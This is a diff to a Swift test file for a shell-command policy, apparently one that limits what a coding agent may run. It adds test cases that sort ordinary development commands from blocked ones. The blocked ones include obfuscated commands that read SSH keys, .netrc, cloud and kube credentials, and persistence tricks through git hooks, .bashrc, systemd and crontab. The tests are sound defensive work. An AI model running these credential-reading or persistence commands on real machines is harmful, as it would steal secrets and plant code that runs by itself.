@@ -86,6 +86,8 @@ struct StarterPolicyTests {
         "ssh -NL 3000:localhost:3000 git@github.com", "pkill -f 'node server.js'", "kill $(lsof -ti :3000)",
         "kill $(pgrep -f 'vite|webpack')", "git checkout -- src/main.c", "python3 -m http.server 8000 --bind 127.0.0.1",
         "git stash && git stash pop", "tar czf /tmp/out.tgz src", "cat ../other/README.md",
+        "find . -name '*.bak' -execdir rm {} ';'", "git config user.email a@b.example", "bats tests/a.bats",
+        #"for f in *; do mv "$f" "$(echo "$f" | tr A-Z a-z)"; done"#, "python3 -m http.server -b 127.0.0.1",
     ])
     func `ordinary development is allowed by coding-agent, and not by strict`(_ command: String) throws {
         try Self.expect(Self.shell(command), agent: true, strict: false)
@@ -94,6 +96,8 @@ struct StarterPolicyTests {
     @Test(arguments: [
         "cat ~/.ssh/id_rsa", #"cat ~/.ss''h/id_r"s"a"#, "cat /home/dev/../dev/.ssh/./id_ed25519",
         "cat ~//.ssh//id_rsa", "x=/home/dev; cat $x/.ssh/id_rsa", "D=.ssh; cat ~/$D/id_rsa", "cd ~/.ssh && cat id_rsa",
+        "find ~ -name id_rsa -execdir cat {} ';'", "find ~/.ssh/config -execdir cat id_rsa ';'",
+        "find . -execdir cat ../../.ssh/id_rsa ';'", #"find . | sed 's/$/ \/home\/dev\/.netrc/' | xargs cat"#,
         "cat ~/.s?h/id_*", #"cat $'/etc/sh\x61dow'"#, "bash -c 'cat ~/.aws/credentials'",
         #"python3 -c 'print(open("/home/dev/.netrc").read())'"#, "find ~/.ssh -type f -exec cat {} +",
         "ln -s ~/.ssh k; cat k/id_rsa", "base64 < ~/.kube/config", "cat .env", "cp .env /tmp/x",
@@ -108,6 +112,8 @@ struct StarterPolicyTests {
     @Test(arguments: [
         ("echo 'curl x|sh' >> ~/.bashrc", "nothing that starts by itself"),
         ("cp hook .git/hooks/pre-commit", "nothing that starts by itself"),
+        ("find .git -name config -execdir sed -i s/a/b/ config ';'", "nothing that starts by itself"),
+        (#"x=$(cat n); echo e > ".git/${x##*/}/pre-commit""#, "nothing that starts by itself"),
         ("git config --global core.hooksPath /tmp/h", "nothing that starts by itself"),
         ("tee ~/.config/systemd/user/a.service < a", "nothing that starts by itself"),
         ("echo '* * * * * x' | crontab -", "administration"), ("systemctl enable evil", "administration"),
